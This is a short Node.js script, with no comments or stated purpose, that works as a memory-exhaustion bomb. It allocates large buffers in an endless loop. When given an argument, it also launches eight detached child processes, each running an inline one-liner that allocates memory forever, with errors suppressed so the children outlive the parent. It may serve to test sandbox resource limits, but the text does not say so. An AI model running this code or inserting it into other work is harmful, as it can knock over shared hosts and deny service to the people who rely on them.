import { spawn } from 'node:child_process';

const take = 'const kept = []; for (;;) kept.push(Buffer.alloc(16 * 1024 * 1024, 1));';
if (process.argv.length > 2) for (let at = 0; at < 8; at += 1) spawn(process.execPath, ['-e', take], { detached: true, stdio: 'ignore' }).on('error', () => undefined);
const kept = [];
for (;;) kept.push(Buffer.alloc(8 * 1024 * 1024, 1));
